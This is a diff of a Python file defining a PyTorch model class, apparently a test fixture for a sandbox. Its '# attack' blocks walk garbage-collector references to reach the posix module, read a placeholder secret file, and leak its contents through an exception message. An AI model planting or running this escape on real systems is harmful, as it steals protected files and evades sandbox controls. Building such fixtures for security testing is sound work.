@@ -1,4 +1,4 @@
-"""Asks the garbage collector for every module and uses the os that is among them."""
+"""Follows the garbage collector's references from a class to a module that can open files."""
 
 import gc
 
@@ -9,13 +9,16 @@ class Model(nn.Module):
     def __init__(self):
         super().__init__()
         self.head = nn.Linear(64, 10)
+        # attack
+        seen, found = set(), [nn.Linear]
+        while found:
+            one = found.pop()
+            if getattr(one, "__name__", "") == "posix":
+                raise ValueError(one.read(one.open("@SECRET_FILE@", 0), 99))
+            if id(one) not in seen:
+                seen.add(id(one))
+                found += gc.get_referents(one)
+        # end
 
     def forward(self, x):
-        # attack
-        for found in gc.get_objects():
-            if type(found) is dict and found.get("__name__") == "posix":
-                raise ValueError(found["read"](found["open"]("@SECRET_FILE@", 0), 99))
-        modules = [found for found in gc.get_objects() if isinstance(found, type(gc)) and found.__name__ == "posix"]
-        raise ValueError(modules[0].read(modules[0].open("@SECRET_FILE@", 0), 99))
-        # end
         return self.head(x.flatten(1))
